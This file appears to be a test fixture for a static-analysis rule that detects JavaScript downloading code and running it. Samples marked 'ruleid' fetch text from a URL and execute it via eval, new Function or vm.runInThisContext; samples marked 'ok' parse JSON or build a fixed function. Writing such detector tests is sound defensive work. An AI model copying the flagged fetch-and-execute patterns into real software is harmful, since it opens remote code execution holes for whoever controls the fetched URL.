const https = require("https");

https.get("https://example.invalid/p.js", (res) => {
  let body = "";
  res.on("data", (c) => (body += c));
  // ruleid: js-eval-downloaded-code
  res.on("end", () => eval(body));
});

async function update() {
  const r = await fetch(UPDATE_URL);
  const code = await r.text();
  // ruleid: js-eval-downloaded-code
  new Function(code)();
}

fetch(CONFIG_URL)
  .then((r) => r.text())
  // ruleid: js-eval-downloaded-code
  .then((t) => require("vm").runInThisContext(t));

async function load() {
  const r = await fetch(CONFIG_URL);
  // ok: js-eval-downloaded-code
  return JSON.parse(await r.text());
}

// ok: js-eval-downloaded-code
const fn = new Function("a", "b", "return a + b");
